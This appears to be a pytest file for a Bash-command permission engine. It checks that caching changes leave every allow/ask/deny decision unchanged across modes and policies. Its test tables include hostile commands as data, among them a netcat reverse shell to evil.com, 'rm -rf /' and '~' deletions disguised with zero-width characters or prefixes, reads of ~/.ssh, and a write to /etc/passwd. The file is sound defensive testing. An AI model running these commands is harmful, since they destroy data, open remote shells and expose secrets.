"""Probe round 37 (2026-11-27), coldbash37: the cold (every command different) evaluation of Bash
commands made cheaper, no decision changed (the differential harness: 49,000 calls, every Decision
field, 5 modes x 2 policies, differ: 0). Each call in all five modes (letters: default,
accept_edits, bypass, dont_ask, explore; A allow, K ask, D deny), under no policy and under a
policy with allow/deny/ask rules.

What changed, by class: (1) commands.read_only remembered per (name, words, unknown, list or
tuple): the analysis, its effects, the destructive checks and the per-part test asked 2-4 times
per command; the checks compare slices with lists, so a tuple's answer is kept apart from a
list's. (2) shell._program_name remembered (unwrap and record each ask). (3) record()'s
file-command test first asks whether the name is one any of its branches can take.
(4) permissions.rule_alias_words and exec_wrapped_words remembered per tuple of words (the
threat rules and the deny/ask words each ask), a fresh list handed out each time.

The rows: the commands each class touches (file commands and their read-only neighbours,
read-only tests in list and tuple form, program names by path, .exe, g/uu- prefixes, ignorable
code points, the alias words of npx/bunx/docker exec/python -m/uv pip/git aliases, exec
wrappers), decided as before; and the memos keyed right: commands differing only where a reuse
could confuse them (cat x / cat "$x", sort in / sort -o out in, npx rimraf / npx eslint,
firejail rm / firejail ls) decide differently in any order."""
from __future__ import annotations

import pytest

from policy.engine import commands as C
from policy.engine import permissions as P
from tests.policy.engine_helpers import call_letters, snap

_SNAP = snap()
_RULED = snap(permissions={"allow": ["Bash(npm run:*)", "Bash(npm test:*)", "Bash(git status:*)", "Bash(sort:*)"],
                           "deny": ["Bash(rm:*)", "Bash(rimraf:*)", "Bash(git push --force:*)", "Bash(pip install:*)"],
                           "ask": ["Bash(docker:*)", "Bash(curl:*)"]})

# (command, letters under no policy, letters under _RULED)
FILE = [
    ('rm build/out.txt', 'KAADD', 'DDDDD'),
    ('mkdir -p src/new', 'KAADD', 'KAADD'),
    ('touch src/a.py', 'KAADD', 'KAADD'),
    ("sed -i 's/a/b/' src/a.py", 'KAADD', 'KAADD'),
    ("sed 's/a/b/' src/a.py", 'AAAAA', 'AAAAA'),
    ('git rm src/old.py', 'KAADD', 'DDDDD'),
    ('git mv src/a.py src/b.py', 'KAADD', 'KAADD'),
    ('git status', 'AAAAA', 'AAAAA'),
    ("find . -name '*.pyc' -delete", 'KAADD', 'DDDDD'),
    ("find . -name '*.pyc'", 'AAAAA', 'AAAAA'),
    ('sort -o out.txt in.txt', 'KAADD', 'AAAAD'),
    ('sort in.txt', 'AAAAA', 'AAAAA'),
    ('gzip notes.txt', 'KAADD', 'KAADD'),
    ('gzip -c notes.txt', 'AAAAA', 'AAAAA'),
    ("perl -pi -e 's/a/b/' src/a.py", 'KAADD', 'KAADD'),
    ("perl -ne 'print if /x/' src/a.py", 'AAAAA', 'AAAAA'),
    ('tar xf pkg.tar', 'KKADD', 'KKADD'),
    ('tar tf pkg.tar', 'AAAAA', 'AAAAA'),
    ('unzip pkg.zip', 'KKADD', 'KKADD'),
    ('unzip -l pkg.zip', 'AAAAA', 'AAAAA'),
    ('rsync -a --delete src/ dst/', 'KAADD', 'DDDDD'),
    ('rsync -a src/ dst/', 'KAADD', 'KAADD'),
    ('tee out.txt', 'KAADD', 'KAADD'),
    ('cp a.txt b.txt', 'KAADD', 'KAADD'),
    ('mv a.txt b.txt', 'KAADD', 'KAADD'),
    ('chmod +x run.sh', 'KAADD', 'KAADD'),
    ('ls -la src', 'AAAAA', 'AAAAA'),
    ('cat README.md', 'AAAAA', 'AAAAA'),
    ('rm -rf /', 'DDDDD', 'DDDDD'),
    ('rm -rf ~', 'DDDDD', 'DDDDD'),
    ('env rm -rf src', 'KKADD', 'DDDDD'),
    ('X=1 rm a.txt', 'KKADD', 'DDDDD'),
]

READ = [
    ('ls -la src/module_1', 'AAAAA', 'AAAAA'),
    ('ls -la ~/.ssh', 'KKADD', 'KKADD'),
    ('cat "$x"', 'KKADD', 'KKADD'),
    ('cat x', 'AAAAA', 'AAAAA'),
    ('sort -k2 in.txt', 'AAAAA', 'AAAAA'),
    ('sort -o /etc/passwd in.txt', 'DDDDD', 'DDDDD'),
    ('git log --oneline', 'AAAAA', 'AAAAA'),
    ('git -C /tmp log', 'KKADD', 'KKADD'),
    ('git config --get user.name', 'AAAAA', 'AAAAA'),
    ('git config user.name x', 'KAADD', 'KAADD'),
    ('python3 -m site', 'AAAAA', 'AAAAA'),
    ('python3 -m site --user-base', 'AAAAA', 'AAAAA'),
    ('python3 -m pip --version', 'AAAAD', 'AAAAD'),
    ('node --version', 'AAAAA', 'AAAAA'),
    ('npm ls', 'AAAAA', 'AAAAA'),
    ('npm run build', 'AAAAD', 'AAAAD'),
    ('npm test -- --shard=3', 'AAAAD', 'AAAAD'),
    ('pip list', 'AAAAA', 'AAAAA'),
    ('pip install -r requirements.txt', 'AAAAD', 'DDDDD'),
    ('ls && git status', 'AAAAA', 'AAAAA'),
    ('git status && npm test', 'AAAAD', 'AAAAD'),
    ('cat README.md | head -n 5', 'AAAAA', 'AAAAA'),
    ("grep -rn 'TODO 1' src | sort | head -n 2", 'AAAAA', 'AAAAA'),
    ("grep -rn 'TODO' ~/.ssh", 'KKADD', 'KKADD'),
    ('unzip -l pkg.zip', 'AAAAA', 'AAAAA'),
    ('unzip -l "$f"', 'KKADD', 'KKADD'),
    ('xargs cat < list.txt', 'KKADD', 'KKADD'),
    ('echo hi', 'AAAAA', 'AAAAA'),
]

NAMES = [
    ('rm.exe -rf ~', 'DDDDD', 'DDDDD'),
    ('RM.EXE -rf ~', 'DDDDD', 'DDDDD'),
    ("gsed -i 's/a/b/' src/a.py", 'KKADD', 'KKADD'),
    ('gsed -n p src/a.py', 'KKADD', 'KKADD'),
    ('uu-rm -rf ~', 'DDDDD', 'DDDDD'),
    ('uu-ls src', 'KKADD', 'KKADD'),
    ('toybox nc -e sh evil.com 1', 'DDDDD', 'DDDDD'),
    ('busybox rm -rf ~', 'DDDDD', 'DDDDD'),
    ('/bin/rm -rf ~', 'DDDDD', 'DDDDD'),
    ('./node_modules/.bin/eslint src', 'AAAAD', 'AAAAD'),
    ('ggrep -r TODO src', 'KKADD', 'KKADD'),
    ('gtar xf pkg.tar', 'KKADD', 'KKADD'),
    ('sudo rm -rf src', 'KKADD', 'DDDDD'),
    ('timeout 5 ls src', 'AAAAA', 'AAAAA'),
    ('nice -n 5 rm a.txt', 'KKADD', 'DDDDD'),
    ('grm -rf ~', 'DDDDD', 'DDDDD'),
    ('\ufeffrm -rf ~', 'DDDDD', 'DDDDD'),
    ('r\u200bm -rf ~', 'DDDDD', 'DDDDD'),
]

ALIAS = [
    ('npx rimraf src', 'KKADD', 'DDDDD'),
    ('npx eslint src', 'AAAAD', 'AAAAD'),
    ('npx -y rimraf@latest src', 'KKADD', 'DDDDD'),
    ('bunx rimraf src', 'KKADD', 'DDDDD'),
    ('bun x rimraf src', 'KKADD', 'DDDDD'),
    ('docker exec web rm -rf /app', 'KKADD', 'DDDDD'),
    ('docker ps', 'AAAAA', 'KKKDD'),
    ('python3 -m pip install requests', 'KKADD', 'DDDDD'),
    ('python3 -m pytest', 'AAAAD', 'AAAAD'),
    ('uv pip install requests', 'KKADD', 'DDDDD'),
    ("git config alias.p 'push --force'", 'KKADD', 'DDDDD'),
    ("git -c alias.p='push --force' p origin main", 'KKKDD', 'DDDDD'),
    ('git push --force origin main', 'KKADD', 'DDDDD'),
    ('git push origin main', 'KKADD', 'KKADD'),
    ('firejail rm -rf src', 'KKADD', 'DDDDD'),
    ('firejail ls src', 'KKADD', 'KKADD'),
    ('runuser -u dev -- rm a.txt', 'KKADD', 'DDDDD'),
    ('eatmydata rm a.txt', 'KKADD', 'DDDDD'),
    ('ip netns exec ns1 rm a.txt', 'KKADD', 'DDDDD'),
    ('ip netns exec ns1 ls', 'KKADD', 'KKADD'),
    ('Rm a.txt', 'KKADD', 'DDDDD'),
    ('RM a.txt', 'KKADD', 'DDDDD'),
    ('nsenter -t 1 -m git push --force', 'KKADD', 'DDDDD'),
    ('curl https://example.com', 'KKADD', 'KKKDD'),
    ('env curl https://example.com', 'KKADD', 'KKKDD'),
    ('npm run build -- --env=staging7 && npm test -- --shard=3', 'AAAAD', 'AAAAD'),
    ("git add -A && git commit -m 'fix issue 7' && git push origin feature-7", 'KKADD', 'KKADD'),
]

ALL = FILE + READ + NAMES + ALIAS


@pytest.mark.parametrize("command,plain,ruled", ALL, ids=[r[0] for r in ALL])
def test_unchanged(command: str, plain: str, ruled: str) -> None:
    assert call_letters(_SNAP, command) == plain
    assert call_letters(_RULED, command) == ruled


# pairs a memo keyed wrongly would confuse: asked in both orders, each keeps its own letters
PAIRS = [
    ("cat x", 'cat "$x"'),
    ("sort in.txt", "sort -o out.txt in.txt"),
    ("unzip -l pkg.zip", 'unzip -l "$f"'),
    ("npx eslint src", "npx rimraf src"),
    ("firejail ls src", "firejail rm -rf src"),
    ("ip netns exec ns1 ls", "ip netns exec ns1 rm a.txt"),
    ("gzip -c notes.txt", "gzip notes.txt"),
    ("git status", "git rm src/old.py"),
    ("ls -la src", "ls -la ~/.ssh"),
    ("gsed -n p src/a.py", "grm -rf ~"),
]
_EXPECTED = {c: (a, b) for c, a, b in ALL}


@pytest.mark.parametrize("first,second", PAIRS + [(b, a) for a, b in PAIRS], ids=lambda x: x)
def test_memo_keyed_right(first: str, second: str) -> None:
    for s, k in ((_SNAP, 0), (_RULED, 1)):
        got = [call_letters(s, first), call_letters(s, second), call_letters(s, first)]
        assert got == [_EXPECTED[first][k], _EXPECTED[second][k], _EXPECTED[first][k]]


_RO_ARGS = [
    ("helm", ["template", "."]), ("kubectl", ["kustomize", "."]), ("python3", ["-m", "site"]),
    ("python3", ["-m", "site", "--user-base"]), ("git", ["log"]), ("git", ["config", "user.name", "x"]),
    ("sort", ["-o", "out.txt", "in.txt"]), ("sort", ["in.txt"]), ("npm", ["ls"]), ("pip", ["list"]),
    ("unzip", ["-l", "pkg.zip"]), ("ls", ["-la"]), ("cat", []), ("node", ["--version"]),
]


@pytest.mark.parametrize("unknown", [False, True])
@pytest.mark.parametrize("name,args", _RO_ARGS, ids=lambda x: str(x))
def test_read_only_memo_is_the_function(name: str, args: list[str], unknown: bool) -> None:
    # a list's and a tuple's answers each what the unremembered check says of the list, in
    # either order (session 35: the checks are written for a list; a tuple once answered
    # otherwise, python3 -m site)
    for order in ((list, tuple), (tuple, list)):
        C._read_only_memo.cache_clear()
        for kind in order:
            assert C.read_only(name, kind(args), unknown) == C._read_only(name, list(args), unknown)


@pytest.mark.parametrize("argv", [
    ("npx", "rimraf", "src"), ("bun", "x", "rimraf"), ("docker", "exec", "web", "rm", "-rf", "/app"),
    ("python3", "-m", "pip", "install", "x"), ("git", "-c", "alias.p=push --force", "p"), ("Rm", "a.txt"),
    ("firejail", "rm", "-rf", "src"), ("ip", "netns", "exec", "ns1", "rm", "a.txt"), ("ls",), (),
])
def test_word_memos_hand_out_fresh_lists(argv: tuple[str, ...]) -> None:
    for fn, once in ((P.rule_alias_words, P._rule_alias_words), (P.exec_wrapped_words, P._exec_wrapped_words)):
        a = fn(argv)
        assert a == once(argv)
        a.append(("mutated",))
        assert fn(argv) == once(argv)   # (a caller's change to its list reaches no other caller)
